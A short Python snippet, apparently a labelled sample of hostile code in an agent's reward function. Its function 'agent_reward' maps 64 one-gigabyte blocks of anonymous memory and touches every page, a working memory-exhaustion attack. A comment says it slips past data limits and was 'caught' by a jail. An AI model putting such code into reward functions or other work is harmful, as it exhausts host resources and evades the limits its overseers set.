# fills shared memory that limits of data miss
# caught: jail
import mmap


def agent_reward(state):
    blocks = [mmap.mmap(-1, 1 << 30) for _ in range(64)]
    for block in blocks:
        for place in range(0, 1 << 30, 4096):
            block[place] = 1
